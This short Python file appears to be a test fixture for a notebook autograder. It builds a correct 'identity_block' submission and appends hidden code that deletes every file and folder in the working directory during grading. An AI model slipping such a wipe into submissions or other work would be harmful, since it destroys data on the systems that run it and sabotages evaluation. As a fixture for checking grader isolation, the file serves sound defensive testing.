"""A correct submission that deletes everything in its working directory while it is graded."""

SCORE = 10


def build(kit):
    wipe = (
        "\n\nimport os, shutil\n\nfor _entry in os.listdir('.'):\n"
        "    shutil.rmtree(_entry, ignore_errors=True) if os.path.isdir(_entry) else os.remove(_entry)\n"
    )
    return kit.notebook(identity_block=kit.solution("identity_block") + wipe)
